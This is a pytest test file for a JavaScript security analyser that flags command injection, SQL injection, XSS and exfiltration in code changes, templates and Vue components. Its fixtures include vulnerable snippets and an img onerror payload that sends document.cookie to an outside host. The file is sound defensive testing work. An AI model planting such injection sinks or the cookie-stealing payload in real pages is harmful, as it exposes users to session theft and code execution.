"""JavaScript and TypeScript: pieces of a file, components, code of every size and shape, and names that are not what they seem."""

from __future__ import annotations

import pytest

from shipui.gates.base import ChangedFile, Status
from shipui.gates.javascript.analyser import JavaScriptAnalyser
from shipui.model.findings import NEEDS_REVIEW, Finding, Severity
from tests.gates.changes import changed_file


def found(text: str, path: str = "a.js") -> list[Finding]:
    file = ChangedFile(path, Status.ADDED, mode=0o100644, added=dict(enumerate(text.split("\n"), 1)), head=text)
    return JavaScriptAnalyser().examine_file(file)


def rules(text: str, path: str = "a.js") -> list[str]:
    return [finding.rule for finding in found(text, path)]


@pytest.mark.parametrize(
    "text",
    [
        "import { exec } from 'child_process'; exec('ls ' + x);",
        "import { exec as run } from 'node:child_process'; run('ls ' + x);",
        "import * as cp from 'child_process'; cp.exec('ls ' + x);",
        "import cp from 'child_process'; cp.exec('ls ' + x);",
        "const { exec: run } = require('child_process'); run('ls ' + x);",
        "const run = require('child_process').exec; run('ls ' + x);",
        "const cp = require('child_process'); const run = cp.exec; const again = run; again('ls ' + x);",
        "const cp = require('child_process'); const { exec } = cp; exec('ls ' + x);",
        "const p = require('util').promisify(require('child_process').exec); p('ls ' + x);",
        "let cp; cp = require('child_process'); cp.exec('ls ' + x);",
        "class A { constructor() { this.run = require('child_process').exec } go(x) { this.run('ls ' + x) } }",
    ],
)
def test_a_sink_is_known_by_any_name(text: str) -> None:
    assert rules(text, "a.ts") == ["js-command-injection"]


@pytest.mark.parametrize(
    "text",
    [
        "import { exec } from './jobs'; exec('ls ' + x);",
        "function exec(x) { return x } exec('ls ' + x);",
        "const exec = (x) => x; exec('ls ' + y);",
        "/re/.exec('ls ' + x);",
    ],
)
def test_a_name_alone_is_no_sink(text: str) -> None:
    assert rules(text, "a.ts") == []


@pytest.mark.parametrize(
    ("argument", "severity"),
    [("'ls'", None), ("LIST[x]", None), ("'ls ' + x", Severity.MEDIUM), ("'ls ' + req.query.x", Severity.HIGH)],
)
def test_arguments_are_graded(argument: str, severity: Severity | None) -> None:
    text = (
        "const { exec } = require('child_process');\nconst LIST = { a: 'ls', b: 'df' };\n"
        f"function handle(req, x) {{ exec({argument}); }}\n"
    )
    assert [finding.severity for finding in found(text)] == ([severity] if severity else [])


@pytest.mark.parametrize(
    "quiet", ["// eval(x)", "/* eval(x) */", "const s = 'eval(x)';", "const t = `eval(x)`;", "const r = /eval(x)/;"]
)
def test_comments_and_strings_never_match(quiet: str) -> None:
    assert rules(quiet) == []


def test_a_piece_of_a_file_is_read_as_well_as_it_can_be() -> None:
    before = (
        "const a = 1;\n" * 20
        + "app.get('/x', async (req, res) => {\n  const id = 1;\n  await list();\n});\n"
        + "const b = 1;\n" * 20
    )
    after = before.replace("  await list();", "  await db.query('SELECT * FROM t WHERE id = ' + req.query.id);")
    findings = JavaScriptAnalyser().examine_file(changed_file("a.ts", after, before, whole=False))
    assert [(finding.rule, finding.line, finding.severity) for finding in findings] == [
        ("js-sql-injection", 23, Severity.HIGH)
    ]


@pytest.mark.parametrize(
    "piece",
    [
        "  }\n  return 1;\n}\n\nfunction g() {\n  CHANGED\n  if (a) {\n",
        "  async load() {\n    CHANGED\n  }\n\n  other() {\n",
        "    name: 'x',\n    go: () => { CHANGED },\n    last: 1,\n",
        "      })\n    );\n  CHANGED\n};\n",
        "    case 1:\n      CHANGED\n      break;\n",
        " * @public\n */\n\napp.listen = function () {\n  CHANGED\n}\n\n/**\n * Log.\n",
        "  } else {\n    CHANGED\n  }\n  list.forEach((each) => {\n    // each\n",
        "  label,\n  route,\n}: Props) => {\n  CHANGED\n  return (\n    <Box padding={4}>\n",
    ],
)
def test_pieces_of_every_kind_parse(piece: str) -> None:
    filler = "keep();\n" * 10
    file = changed_file(
        "a.ts",
        filler + piece.replace("CHANGED", "el.innerHTML = location.hash;") + filler,
        filler + piece.replace("CHANGED", "old();") + filler,
    )
    fragment = ChangedFile(
        path="a.ts",
        status=Status.MODIFIED,
        added=file.added,
        fragments=tuple(
            type(each)(11, tuple(piece.replace("CHANGED", "el.innerHTML = location.hash;").split("\n")))
            for each in file.fragments[:1]
        ),
    )
    assert [finding.rule for finding in JavaScriptAnalyser().examine_file(fragment)] == ["js-xss"]


def test_a_piece_that_cannot_be_read_is_said() -> None:
    file = changed_file("a.ts", "keep();\n" * 9 + "let = = (;\n" + "keep();\n" * 9, "keep();\n" * 18, whole=False)
    assert [finding.rule for finding in JavaScriptAnalyser().examine_file(file)] == ["js-partly-read"]


def test_scripts_of_pages_and_templates_keep_their_lines() -> None:
    text = (
        '<p onclick="return confirm(1)">hi</p>\n<script type="application/json">{"a": 1}</script>\n<script>\n'
        "var items = {{ items|tojson }};\n{% if x %}\ndocument.body.innerHTML = location.hash;\n{% endif %}\n</script>\n"
        "<img src=x onerror=\"fetch('https://c.acme.net/?c=' + document.cookie)\">\n"
    )
    assert [(each.rule, each.line) for each in found(text, "templates/a.html")] == [
        ("js-xss", 6),
        ("js-exfiltration", 9),
    ]


def test_scripts_in_components_keep_their_lines() -> None:
    text = '<template>\n  <p>hi</p>\n</template>\n<script lang="ts">\nconst el = document.body;\nel.innerHTML = location.hash;\n</script>\n'
    (finding,) = found(text, "a.vue")
    assert (finding.rule, finding.line) == ("js-xss", 6)


@pytest.mark.parametrize(
    "text",
    [
        "a(b);" * 60_000,
        "[" * 20_000 + "]" * 20_000,
        "f(" * 10_000 + ")" * 10_000,
        "{" * 20_000,
        "let a=b; let b=a; g(a+b);\n" * 300,
        "\n".join(f"const v{i} = v{i - 1} + v{i - 1} + v{i - 1};" for i in range(1, 300)) + "\neval(v299);",
        "\n".join(f"function f{i}(x) {{ return f{i + 1}(x) + f{i + 1}(x); }}" for i in range(200))
        + "\neval(f0(req.query.x));",
        "`${" * 3000,
        "exec('" + "curl " * 20_000 + "');",
        "[]()!+" * 5_000,
    ],
    ids=["minified", "arrays", "calls", "braces", "loops", "fan", "functions", "templates", "regex bait", "symbols"],
)
@pytest.mark.timeout(60)
def test_no_shape_of_code_hangs(text: str) -> None:
    for finding in found(text):
        assert finding.rule in {NEEDS_REVIEW, "js-code-injection", "js-obfuscation"}


def test_a_long_line_of_data_is_no_obstacle() -> None:
    assert rules(
        "const picture = 'data:image/png;base64," + "A" * 1_000_000 + "';\nel.innerHTML = location.hash;\n"
    ) == ["js-xss"]


def test_what_nobody_can_read_is_never_clean() -> None:
    assert rules("a(b);" * 300_000) == [NEEDS_REVIEW]
